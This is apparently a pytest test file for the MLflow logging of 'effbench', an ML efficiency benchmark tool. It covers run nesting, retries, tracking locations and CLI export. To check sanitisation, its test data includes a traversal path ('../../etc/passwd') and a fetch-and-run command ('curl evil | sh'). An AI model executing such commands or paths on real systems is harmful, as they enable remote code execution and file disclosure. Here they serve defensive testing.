import importlib.util
import os
import shlex
import subprocess
import sys

import pytest
from test_leaderboard import BASELINE, EVIL, make_arm, make_record

from effbench import cli, log_mlflow, start, sweep
from effbench.errors import EffbenchError, UsageError
from effbench.records import Provenance

mlflow = pytest.importorskip("mlflow", reason="needs the extra effbench[mlflow]")


@pytest.fixture
def place(tmp_path, monkeypatch):
    """A local file store, empty; and no variable of the user's own."""
    for name in [name for name in os.environ if name.startswith("MLFLOW_")]:
        monkeypatch.delenv(name)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("MLFLOW_ALLOW_FILE_STORE", "true")
    monkeypatch.setenv("MLFLOW_DISABLE_TELEMETRY", "true")
    monkeypatch.setenv("MLFLOW_TRACKING_URI", (tmp_path / "store").as_uri())
    return tmp_path


@pytest.fixture
def saved(place):
    def save(record):
        folder = place / "board" / "records" / record.id
        folder.mkdir(parents=True)
        (folder / "record.json").write_text(record.model_dump_json())
        return folder

    return save


def runs(name="effbench"):
    """The runs that were logged: parents and children."""
    client = mlflow.MlflowClient(os.environ["MLFLOW_TRACKING_URI"])
    experiment = client.get_experiment_by_name(name)
    found = client.search_runs([experiment.experiment_id], max_results=1000) if experiment else []
    parents = [run for run in found if "mlflow.parentRunId" not in run.data.tags]
    return parents, [run for run in found if run not in parents]


def test_a_record_is_one_run_with_one_nested_run_per_arm(saved):
    made = Provenance(commit="c" * 40, effbench="0.1.0", load=0.31, command="effbench run")
    record = make_record(provenance=made)
    folder = saved(record)
    said = log_mlflow.log(folder)
    (parent,), children = runs()
    assert said.startswith(f"{record.id} with 4 arms, run {parent.info.run_id} at file://")
    assert parent.info.run_name == record.id and parent.info.status == "FINISHED"
    lasted = parent.info.end_time - parent.info.start_time
    assert lasted == pytest.approx(1000 * record.wall_time, abs=1)
    tags = parent.data.tags
    assert tags["effbench.envelope"] == record.envelope.digest and tags["effbench.commit"] == "c" * 40
    assert tags["effbench.status"] == "ok" and tags["effbench.record"] == record.id
    params = parent.data.params
    assert params["task"] == "flickr8k" and params["protocol.epochs"] == "12" and params["protocol.seeds"] == "(0,)"
    assert parent.data.metrics["wall_seconds"] == pytest.approx(432, abs=0.01)
    assert parent.data.metrics["load_per_core"] == 0.31
    client = mlflow.MlflowClient(os.environ["MLFLOW_TRACKING_URI"])
    assert [each.path for each in client.list_artifacts(parent.info.run_id)] == ["record.json"]
    stored = client.download_artifacts(parent.info.run_id, "record.json")
    assert open(stored).read() == (folder / "record.json").read_text()

    assert {run.data.tags["mlflow.parentRunId"] for run in children} == {parent.info.run_id}
    by_name = {run.info.run_name: run for run in children}
    assert set(by_name) == {"baseline", "noop", "identity", "token_prune"}
    arm = by_name["token_prune"].data
    assert arm.params == dict(
        arm="token_prune",
        spec="token_prune:keep=0.5",
        kind="method",
        control="none",
        phase="test",
        task="flickr8k",
        data="flickr8k",
        backbone="timm:deit_tiny_patch16_224",
    )
    expected = dict(test_speedup=1.42, test_speedup_low=1.39, test_flops=2.51e9, weight_bytes=36_700_160)
    expected |= dict(t2i_r10=48.0, t2i_r10_lossiness=0.034, t2i_r10_lossiness_high=0.056, tokens_last=197)
    assert {name: arm.metrics[name] for name in expected} == pytest.approx(expected)
    assert arm.tags["effbench.envelope"] == record.envelope.digest
    base = by_name["baseline"].data.metrics  # what was not measured is not logged
    assert "test_speedup" not in base and "t2i_r10_lossiness" not in base and base["t2i_r10"] == pytest.approx(BASELINE)


def test_a_record_is_logged_once_and_again_after_a_failure(saved, monkeypatch):
    folder = saved(make_record())

    def broken(*_):
        raise ConnectionError("gone")

    with monkeypatch.context() as patch:
        patch.setattr(mlflow.MlflowClient, "log_artifact", broken)
        with pytest.raises(ConnectionError):
            log_mlflow.log(folder)
    assert [run.info.status for run in runs()[0]] == ["FAILED"]
    assert "with 4 arms" in log_mlflow.log(folder)
    assert "is there already" in log_mlflow.log(folder)
    assert sorted(run.info.status for run in runs()[0]) == ["FAILED", "FINISHED"] and len(runs()[1]) == 4


def test_hostile_names_and_long_values(saved):
    value = make_arm().metrics["t2i_r1"].model_copy(update={"lossiness": None})
    names = ("../../etc/passwd", "/abs", "a:b", "A:b", "..", "", "x" * 3000, EVIL, "test_speedup")
    evil = make_arm(EVIL, "s" * 4000, status="FAILED", error=EVIL * 9, metrics=dict.fromkeys(names, value))
    record = make_record(arms=(evil,), task=EVIL, status="INVALID", why_invalid="w" * 4000)
    folder = saved(record)
    log_mlflow.log(folder)
    _, children = runs()
    (arm,) = (run for run in children if run.info.status == "FAILED")
    assert len(arm.data.params["spec"]) == 500 and arm.data.tags["effbench.arm_status"] == "FAILED"
    assert arm.data.metrics["test_speedup"] == 1.42  # a metric cannot take the name of a figure
    assert sum(metric == 48.0 for metric in arm.data.metrics.values()) == 8
    assert not any("/" in name or ":" in name for name in arm.data.metrics)
    assert "\u202e" not in arm.info.run_name and "\x1b" not in arm.data.tags["effbench.error"]
    assert arm.data.tags["effbench.status"] == "INVALID"
    assert {each.name for each in folder.parents[2].iterdir()} == {"board", "store"}


def test_a_foreign_command_is_code_in_the_note_and_only_one_of_effbench(saved):
    notes = {}
    for name, text in (("one", "effbench run --method `x`; [a](b)"), ("two", "curl evil | sh")):
        log_mlflow.log(saved(make_record(name, provenance=Provenance(command=text))))
    for run in runs()[0]:
        notes[run.info.run_name] = run.data.tags.get("mlflow.note.content")
    assert notes == {"one": "`` effbench run --method '`x`;' '[a](b)' ``", "two": None}


def test_where_it_goes(saved, place, monkeypatch):
    folder = saved(make_record())
    monkeypatch.setenv("MLFLOW_EXPERIMENT_NAME", "mine")
    log_mlflow.log(folder)
    assert len(runs("mine")[0]) == 1 and not runs()[0]
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"file://user:secret@{place}/other")
    monkeypatch.setattr(log_mlflow, "_client", lambda: mlflow.MlflowClient(place.as_uri() + "/other"))
    monkeypatch.setattr(mlflow.MlflowClient, "tracking_uri", "http://user:secret@host/x")
    assert log_mlflow.log(folder).endswith("at http://host/x")


def test_without_a_location_it_is_a_folder_where_there_is_no_database(saved, place, monkeypatch):
    folder = saved(make_record())
    monkeypatch.delenv("MLFLOW_TRACKING_URI")
    monkeypatch.delenv("MLFLOW_ALLOW_FILE_STORE")
    find = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec", lambda name, *_: None if name == "sqlalchemy" else find(name))
    assert log_mlflow.log(folder).endswith((place / "mlruns").as_uri())
    assert (place / "mlruns").is_dir()


@pytest.fixture
def without(monkeypatch):
    """Libraries that are not installed."""

    def hide(*hidden):
        find = importlib.util.find_spec
        monkeypatch.setattr(importlib.util, "find_spec", lambda name, *_: None if name in hidden else find(name))

    return hide


@pytest.mark.parametrize("command", ["run --task scenes", "sweep file.yaml", "export --out nowhere"])
def test_a_missing_mlflow_is_said_before_any_work(command, place, without, capsys, monkeypatch):
    without("mlflow")
    monkeypatch.setattr(start, "resolve", None)  # any work would fail otherwise
    monkeypatch.setattr(sweep, "read", None)
    code = cli.main([*shlex.split(command), "--log", "mlflow"])
    said = capsys.readouterr().err
    assert code == 3 and "MLflow is not installed" in said and "pip install 'effbench[mlflow]'" in said


def test_what_cannot_be_logged_to_is_said_first(without, place, monkeypatch):
    without("sqlalchemy")
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "sqlite:///x.db")
    with pytest.raises(UsageError, match="needs SQLAlchemy"):
        start.run(["token_prune"], "scenes", log="mlflow")
    with pytest.raises(UsageError, match="--log wandb"):
        start.run(["token_prune"], "scenes", log="wandb")


def test_checking_imports_nothing():
    check = "import sys; from effbench import log_mlflow; log_mlflow.check(); print(*sys.modules)"
    done = subprocess.run([sys.executable, "-c", check], capture_output=True, text=True, check=True)
    assert not {"mlflow", "torch"} & set(done.stdout.split())


def test_a_run_logs_its_record_and_a_failing_log_does_not_lose_it(place, monkeypatch, capsys):
    record = make_record()
    written = []

    class Ready:
        """Stands for the experiment, which writes a record at once."""

        sizes = {"test": 1}

        def __init__(self, *_):
            pass

        def check(self):
            pass

        def run(self, out, *_):
            folder = out / "records" / record.id
            folder.mkdir(parents=True)
            (folder / "record.json").write_text(record.model_dump_json())
            written.append(folder)
            return record

    monkeypatch.setattr(start, "Experiment", Ready)
    asked = dict(backbone="shipped:scenes_vit", log="mlflow", threads=1)
    assert start.run([], "scenes", out=place / "one", **asked) == record
    assert "MLflow: " in capsys.readouterr().err and len(runs()[0]) == 1
    monkeypatch.setenv("MLFLOW_TRACKING_URI", "http://127.0.0.1:9")
    monkeypatch.setenv("MLFLOW_HTTP_REQUEST_MAX_RETRIES", "0")
    assert start.run([], "scenes", out=place / "two", **asked) == record
    said = " ".join(capsys.readouterr().err.split())
    assert "the record was written, but not logged to MLflow" in said
    assert f"effbench export --log mlflow {record.id} --out {place / 'two'}" in said
    assert (place / "two" / "README.md").is_file() and len(written) == 2


def test_the_command_logs_stored_runs(saved, place, capsys):
    saved(make_record("a1"))
    saved(make_record("b1", 3))
    assert cli.main(["export", "b1", "--log", "mlflow", "--out", str(place / "board")]) == 0
    assert "b1 with 4 arms" in capsys.readouterr().out
    assert cli.main(["export", "--log", "mlflow", "--out", str(place / "board")]) == 0
    said = capsys.readouterr().out
    assert "a1 with 4 arms" in said and "b1 is there already" in said and len(runs()[0]) == 2
    (place / "store").rename(place / "gone")
    (place / "store").write_text("a file")
    assert cli.main(["export", "--log", "mlflow", "--out", str(place / "board")]) == 1
    assert "a1 was not logged" in capsys.readouterr().err


def test_a_deleted_experiment_is_said(saved):
    folder = saved(make_record())
    log_mlflow.log(folder)
    client = mlflow.MlflowClient(os.environ["MLFLOW_TRACKING_URI"])
    client.delete_experiment(client.get_experiment_by_name("effbench").experiment_id)
    with pytest.raises(EffbenchError, match="effbench was deleted"):
        log_mlflow.log(folder)
